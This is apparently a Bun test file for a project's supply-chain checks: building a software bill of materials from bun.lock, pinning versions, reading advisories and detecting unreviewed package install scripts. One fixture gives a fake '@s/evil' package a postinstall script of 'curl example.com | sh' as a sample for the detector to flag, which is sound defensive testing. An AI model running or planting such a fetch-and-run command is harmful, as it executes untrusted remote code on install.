/** The bill of materials is what the lockfile says; what an installation would run is known; advisories are understood. */
import { expect, test } from "bun:test";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import manifest from "#manifest" with { type: "json" };
import { ROOT } from "../paths.ts";
import { isGrave, readAdvisories } from "./advisories.ts";
import { parseLockfile, readLockfile } from "./lockfile.ts";
import { installedLicense, sbomOf } from "./sbom.ts";
import { installScripts, KNOWN_SCRIPTS, unknownScripts } from "./scripts.ts";

const PACKAGES = {
  a: ["a@1.0.0", "", { dependencies: { b: "^1", c: "^2" } }, "sha512-AAAA"],
  b: ["b@1.0.0", "", {}, "sha512-AQEB"],
  c: ["c@2.0.0", "", { dependencies: { b: "^2" } }, "sha512-AgIC"],
  "c/b": ["b@2.0.0", "", { optionalDependencies: { "@s/d": "1" } }, "sha512-AwMD"],
  "@s/d": ["@s/d@1.0.0", "", {}, "sha512-BAQE"],
  tool: ["tool@9.0.0", "", { dependencies: { b: "^1" } }, "sha512-BQUF"],
};
const lockText = (packages: object) =>
  `${JSON.stringify({ workspaces: { "": { dependencies: { a: "1" }, devDependencies: { tool: "9" } } }, packages }).slice(0, -1)},}`;
const options = { manifest: { name: "p", version: "1.2.3" }, licenseOf: () => Promise.resolve("MIT") };

test("every package of a lockfile is a component once, with its scope, its digest and what it uses", async () => {
  const bill = await sbomOf(parseLockfile(lockText(PACKAGES)), options);
  expect(bill.components.map(({ purl, scope }) => [purl, scope])).toEqual([
    ["pkg:npm/%40s/d@1.0.0", "required"],
    ["pkg:npm/a@1.0.0", "required"],
    ["pkg:npm/b@1.0.0", "required"],
    ["pkg:npm/b@2.0.0", "required"],
    ["pkg:npm/c@2.0.0", "required"],
    ["pkg:npm/tool@9.0.0", "excluded"],
  ]);
  expect(bill.components[0]).toMatchObject({
    group: "@s",
    name: "d",
    hashes: [{ alg: "SHA-512", content: "040404" }],
    licenses: [{ expression: "MIT" }],
  });
  const uses = Object.fromEntries(bill.dependencies.map(({ ref, dependsOn }) => [ref, dependsOn]));
  expect(uses["pkg:npm/p@1.2.3"]).toEqual(["pkg:npm/a@1.0.0", "pkg:npm/tool@9.0.0"]);
  expect(uses["pkg:npm/c@2.0.0"]).toEqual(["pkg:npm/b@2.0.0"]);
  expect(uses["pkg:npm/a@1.0.0"]).toEqual(["pkg:npm/b@1.0.0", "pkg:npm/c@2.0.0"]);
  expect(uses["pkg:npm/b@2.0.0"]).toEqual(["pkg:npm/%40s/d@1.0.0"]);
});

test("a package that is not the registry's, or has no digest, is no part of a bill", () => {
  for (const bad of [
    ["x@github:a/b", "", {}, "sha512-AA"],
    ["x@1.0.0", "", {}, ""],
    ["x@file:../x", {}],
  ]) {
    expect(() => parseLockfile(lockText({ x: bad }))).toThrow("bun.lock: x@");
  }
});

test("our own bill: all of bun.lock, the same each time, nothing refers to what is not there", async () => {
  const lockfile = await readLockfile();
  const make = () => sbomOf(lockfile, { manifest, licenseOf: installedLicense });
  const bill = await make();
  expect(await make()).toEqual(bill);
  const refs = new Set([...bill.components.map((one) => one["bom-ref"]), bill.metadata.component["bom-ref"]]);
  expect(bill.components.length).toBe(new Set(lockfile.packages.map(({ name, version }) => `${name}@${version}`)).size);
  for (const { ref, dependsOn } of bill.dependencies) {
    expect([ref, [ref, ...dependsOn].filter((one) => !refs.has(one))]).toEqual([ref, []]);
  }
  for (const { purl, hashes } of bill.components) {
    expect([purl, hashes[0]?.content.length]).toEqual([purl, 128]);
  }
  const runs = bill.components.filter(({ scope }) => scope === "required");
  expect(runs.map(({ name }) => name)).toContain("jose");
  expect(runs.map(({ name }) => name)).not.toContain("playwright-core");
  expect(runs.map(({ name }) => name)).not.toContain("typescript");
  // What runs here has a license that says so; what is another platform's is not installed.
  const unlicensed = runs.filter(
    ({ name, licenses }) => licenses === undefined && !/-(linux|darwin|win32)-/.test(name),
  );
  expect(unlicensed.map(({ name }) => name)).toEqual([]);
});

test("what packages run at installation is known, and what is trusted is that and no more", async () => {
  expect(unknownScripts(await installScripts(join(ROOT, "node_modules")))).toEqual([]);
  const runs = Object.keys(KNOWN_SCRIPTS).filter((name) => KNOWN_SCRIPTS[name]?.runs === true);
  expect(manifest.trustedDependencies.toSorted()).toEqual(runs.toSorted());
  expect((await readLockfile()).trusted.toSorted()).toEqual(runs.toSorted());
});

test("a script that nobody has looked at is seen, however deep it lies", async () => {
  const modules = await mkdtemp(join(tmpdir(), "scripts-"));
  const put = async (place: string, name: string, scripts: object): Promise<void> => {
    await mkdir(join(modules, place), { recursive: true });
    await writeFile(join(modules, place, "package.json"), JSON.stringify({ name, scripts }));
  };
  await put("good", "good", { build: "make", prepare: "husky" });
  await put("@s/evil", "@s/evil", { postinstall: "curl example.com | sh" });
  await put("good/node_modules/deep", "deep", { preinstall: "true" });
  await put("msgpackr-extract", "msgpackr-extract", { install: "node-gyp" });
  const found = unknownScripts(await installScripts(modules));
  expect(found.map(({ name, script }) => `${name} ${script}`).toSorted()).toEqual([
    "@s/evil postinstall",
    "deep preinstall",
  ]);
  await rm(modules, { recursive: true });
});

test("every version in package.json is exact", () => {
  const { dependencies, devDependencies, optionalDependencies } = manifest;
  for (const [name, version] of Object.entries({ ...dependencies, ...devDependencies, ...optionalDependencies })) {
    expect([name, version]).toEqual([name, expect.stringMatching(/^\d+\.\d+\.\d+[\w.-]*$/)]);
  }
});

test("advisories: the worst first, where they run, and no answer is no clean bill", () => {
  const answer = JSON.stringify({
    tool: [{ severity: "low", title: "t", vulnerable_versions: "<2" }],
    a: [
      { severity: "high", title: "h" },
      { severity: "of a kind that is new", title: "n" },
    ],
  });
  const advisories = readAdvisories(answer, new Set(["a"])) ?? [];
  expect(advisories.map((one) => [one.package, one.severity, one.runs, isGrave(one)])).toEqual([
    ["a", "critical", true, true],
    ["a", "high", true, true],
    ["tool", "low", false, false],
  ]);
  expect(readAdvisories("{}", new Set())).toEqual([]);
  for (const none of ["", "error: 405", "[]", "null", '{"a":1}'])
    expect(readAdvisories(none, new Set())).toBeUndefined();
});
